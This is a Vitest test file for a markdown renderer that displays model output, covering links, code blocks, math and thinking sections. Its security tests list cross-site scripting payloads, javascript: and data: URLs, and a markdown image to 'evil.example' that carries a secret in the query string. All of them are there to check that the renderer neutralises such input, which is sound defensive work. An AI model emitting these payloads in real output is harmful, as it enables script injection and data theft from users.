// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { MarkdownRenderer, type Tools } from './markdown';
import { tex_to_mathml } from './mathml';
import { Joiner, split_thinking } from './thinking';

function html(text: string, tools: Tools = {}): string {
  return new MarkdownRenderer(tools)
    .render(text)
    .map((block) => block.html)
    .join('');
}

// What a browser would make of it.
function page(text: string, tools: Tools = {}): HTMLElement {
  const place = document.createElement('div');
  place.innerHTML = html(text, tools);
  return place;
}

describe('a link whose address comes elsewhere', () => {
  const links = (renderer: MarkdownRenderer, text: string) =>
    renderer
      .render(text)
      .flatMap(({ html }) => [...html.matchAll(/href="([^"]*)"/g)])
      .map(([, href]) => href);

  test('becomes one once the answer has come to it', () => {
    const renderer = new MarkdownRenderer();
    const begun = 'As [they say][1].\n\n';
    expect(links(renderer, begun)).toEqual([]);
    expect(links(renderer, `${begun}[1]: https://one.example/`)).toEqual(['https://one.example/']);
  });

  test('does not lead where the same words led in another answer', () => {
    const renderer = new MarkdownRenderer();
    expect(links(renderer, 'See [there][1].\n\n[1]: https://one.example/')).toEqual(['https://one.example/']);
    expect(links(renderer, 'See [there][1].\n\n[1]: https://two.example/')).toEqual(['https://two.example/']);
  });
});

describe('what a model writes', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <iframe src="javascript:alert(1)"></iframe> text',
    '<svg><animate onbegin=alert(1)></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed">x</div>',
    '<form action="https://evil.example"><button>ok</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ])('as HTML is shown as text: %s', (hostile) => {
    const made = page(hostile);
    expect(made.querySelector('script, img, iframe, svg, form, style, math, button')).toBeNull();
    expect([...made.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())).toEqual([]);
    expect(made.textContent).toContain(hostile.slice(0, 10).trim());
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    'file:///x',
  ])('is no link to %s', (href) => {
    expect(page(`[click](${href})`).querySelector('a')).toBeNull();
  });

  test('fetches no picture: it becomes a link', () => {
    const made = page('![secret](https://evil.example/?q=secret)');
    expect(made.querySelector('img')).toBeNull();
    expect(made.querySelector('a')?.getAttribute('rel')).toContain('noreferrer');
  });

  test('cannot break out of a code block, its language or a formula', () => {
    const made = page('```"><img src=x>\n</code></pre><img src=x>\n```\n\n$<img src=x>$', { math: () => null });
    expect(made.querySelector('img')).toBeNull();
    expect(made.querySelector('pre')?.textContent).toContain('</code></pre><img src=x>');
  });

  test('cannot pass for a formula that we made', () => {
    const made = page('`x` <code class="math-0"></code> $y$', { math: () => '<math><mi>y</mi></math>' });
    expect(made.querySelectorAll('math').length).toBe(1);
  });
});

describe('Markdown', () => {
  test('has headings, lists, tables and code', () => {
    const made = page('# T\n\n- a\n- b\n\n|x|y|\n|-|-|\n|1|2|\n\n```py\nprint(1)\n```');
    expect(made.querySelector('h1')?.textContent).toBe('T');
    expect(made.querySelectorAll('li').length).toBe(2);
    expect(made.querySelectorAll('td').length).toBe(2);
    expect(made.querySelector('.code-bar')?.textContent).toContain('py');
    expect(made.querySelector('.code-copy')).not.toBeNull();
  });

  test('of a code block that is still being written is a code block already', () => {
    expect(page('```js\nlet a = 1').querySelector('pre code')?.textContent).toContain('let a = 1');
  });

  test('makes blocks that are finished only once', () => {
    let made = 0;
    const renderer = new MarkdownRenderer({ highlight: () => (++made, null) });
    renderer.render('```a\nx\n```\n\none');
    renderer.render('```a\nx\n```\n\none two');
    expect(made).toBe(1);
  });
});

describe('mathematics', () => {
  const tools = { math: tex_to_mathml };

  test.each([
    ['$a_1 * b_2 * c$', false],
    ['\\(x^2\\)', false],
    ['$$\\int_0^1 x\\,dx$$', true],
    ['\\[\n\\frac{a}{b}\n\\]', true],
  ])('is read in %s', (text, display) => {
    const made = page(text, tools);
    expect(made.querySelectorAll('math').length).toBe(1);
    expect(made.querySelector('em')).toBeNull();
    expect(made.querySelector('.display') !== null).toBe(display);
  });

  test.each(['It costs $5 and $6.', 'PATH=$HOME:$PATH', 'a $ b $ c'])('is not read in %s', (text) => {
    expect(page(text, tools).querySelector('.math')).toBeNull();
  });

  test('has no styles and no links, whatever TeX asks for', () => {
    for (const tex of ['\\color{red}x', '\\href{javascript:alert(1)}{x}', '\\htmlStyle{color:red}{x}', '\\fbox{x}']) {
      const made = page(`$${tex}$`, tools);
      expect(made.querySelector('[style], a, [href]')).toBeNull();
    }
  });

  test('that is not TeX is shown as it came', () => {
    expect(page('$\\frac{$', tools).textContent).toContain('\\frac{');
  });
});

describe('thinking aloud', () => {
  test('is told apart from the answer', () => {
    expect(split_thinking('<think>\nhm\n</think>\n\nYes.')).toEqual({
      thinking: 'hm',
      answer: 'Yes.',
      thinks_still: false,
    });
    expect(split_thinking('<think>hm')).toEqual({ thinking: 'hm', answer: '', thinks_still: true });
    expect(split_thinking('No <think>')).toEqual({ thinking: null, answer: 'No <think>', thinks_still: false });
    expect(split_thinking('<think></think>Yes').thinking).toBeNull();
  });

  test('that came apart is one text, and told apart again', () => {
    const joiner = new Joiner();
    const text = joiner.thought('h') + joiner.thought('m') + joiner.said('Yes') + joiner.said('.');
    expect(split_thinking(text)).toEqual({ thinking: 'hm', answer: 'Yes.', thinks_still: false });
    expect(new Joiner().said('Yes.')).toBe('Yes.');
  });
});
